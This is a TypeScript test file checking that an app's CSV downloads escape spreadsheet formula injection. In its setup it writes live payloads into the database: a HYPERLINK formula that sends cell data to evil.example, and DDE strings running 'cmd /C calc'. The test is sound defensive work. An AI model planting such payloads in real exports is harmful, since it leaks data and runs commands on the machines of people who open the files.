import fs from 'node:fs';
import path from 'node:path';
import { expect } from 'chai';
import { parse } from 'csv-parse/sync';
import { lastEndedQuarter } from '../../modules/board/quarters';
import { londonToday } from '../../modules/compliance/service';
import { DEMO_PASSWORD } from '../../server/demo';
import { startTestServer, TestAgent, type TestServer } from '../support/server';
import { routeTable } from './routes';

const ROOT = path.resolve(__dirname, '../..');
const FORMULA_START = /^[=+\-@\t\r]/;

/**
 * Every CSV download, by the route that sends it, with the addresses that
 * make it send each of its kinds. A route added that ends in .csv, or a new
 * call of sendCsv, fails the test below until it is added here.
 */
const CSV_DOWNLOADS = (quarter: string): Record<string, string[]> => ({
  'GET /compliance/:slug/staff.csv': ['/compliance/vale-county-council/staff.csv'],
  'GET /compliance/:slug/counts.csv': ['/compliance/vale-county-council/counts.csv?by=team', '/compliance/vale-county-council/counts.csv?by=group'],
  'GET /compliance/:slug/chase.csv': ['/compliance/vale-county-council/chase.csv'],
  'GET /board/report/:file': [`/board/report/${quarter}.csv`],
  'GET /board/licensing.csv': ['/board/licensing.csv'],
  'GET /training-sessions/charges': ['/training-sessions/charges?format=csv'],
});

function sourceFiles(dir: string): string[] {
  return fs.readdirSync(dir, { withFileTypes: true }).flatMap((e) => {
    const full = path.join(dir, e.name);
    if (e.isDirectory()) return sourceFiles(full);
    return e.name.endsWith('.ts') && !e.name.includes('.test.') && !e.name.includes('.suite.') ? [full] : [];
  });
}

/**
 * A name typed into an import or a form ("=HYPERLINK(...)") must not run as a
 * formula when a lead or an administrator opens a download in a spreadsheet.
 */
describe('CSV downloads and formula injection', () => {
  let server: TestServer;
  let admin: TestAgent;
  const last = lastEndedQuarter(londonToday());

  before(async () => {
    server = await startTestServer({ demo: true });
    const pool = server.product.database.pool;
    // What an attacker with an organisation's settings or a staff import can write.
    await pool.query(`update organisations set name = '=HYPERLINK("http://evil.example/?"&A1,"' || name || '")'`);
    await pool.query(`update staff set name = '@SUM(1+1)*cmd|'' /C calc''!A0 ' || name, team = '-2+3', job_title = '+1+cmd|'' /C calc''!A0 ' || job_title`);
    // A tab or a carriage return first also makes a spreadsheet read the rest as a formula.
    const council = `select s.id from staff s join organisations o on o.id = s.organisation_id where o.slug = 'vale-county-council' order by s.id`;
    await pool.query(`update staff set team = E'\\t=1+1' where id in (${council} limit 1)`);
    await pool.query(`update staff set team = E'\\r=1+1' where id in (${council} offset 1 limit 1)`);
    admin = new TestAgent(server.url);
    await admin.signIn('admin@vale-partnership.example', DEMO_PASSWORD);
    await admin.postForm('/board/snapshots', { quarter: last.id, retake: 'yes' });
  });
  after(async () => {
    await server?.close();
  });

  it('writes every cell of every CSV download so a spreadsheet shows it as text', async () => {
    const downloads = Object.values(CSV_DOWNLOADS(last.id)).flat();
    const planted = new Set<string>();
    for (const url of downloads) {
      const res = await admin.request('GET', url);
      expect(res.status, url).to.equal(200);
      expect(res.headers.get('content-type'), url).to.match(/^text\/csv/);
      const rows = parse(await res.text(), { relax_column_count: true }) as string[][];
      for (const cell of rows.flat()) expect(cell, `${url}: ${cell}`).to.not.match(FORMULA_START);
      for (const cell of rows.flat()) if (/^'[=+\-@\t\r]/.test(cell)) planted.add(cell[1]);
    }
    expect([...planted].sort(), 'every planted start reached a download, neutralised').to.deep.equal(['\t', '\r', '+', '-', '=', '@'].sort());
  });

  it('covers every CSV download the product has', () => {
    const known = Object.keys(CSV_DOWNLOADS(last.id));
    const csvRoutes = routeTable(server.product.app).filter((r) => r.startsWith('GET ') && r.endsWith('.csv'));
    expect(
      csvRoutes.filter((r) => !known.includes(r)),
      'routes named .csv missing from CSV_DOWNLOADS',
    ).to.deep.equal([]);
    for (const route of known) expect(routeTable(server.product.app), route).to.include(route);
    // Each download is one sendCsv call in a route handler; a new one is a route to add above.
    const calls = sourceFiles(path.join(ROOT, 'modules')).reduce((n, f) => n + (fs.readFileSync(f, 'utf8').match(/\bsendCsv\(/g) ?? []).length, 0);
    expect(calls, 'sendCsv calls in modules (one per CSV download route)').to.equal(known.length);
  });

  it('has one CSV writer: no module sends CSV or uses a CSV library without the guard', () => {
    const writers = [...sourceFiles(path.join(ROOT, 'modules')), ...sourceFiles(path.join(ROOT, 'server'))]
      .filter((f) => f !== path.join(ROOT, 'server/csv.ts'))
      .filter((f) => /csv-stringify|text\/csv/.test(fs.readFileSync(f, 'utf8')));
    expect(writers.map((f) => path.relative(ROOT, f))).to.deep.equal([]);
  });
});
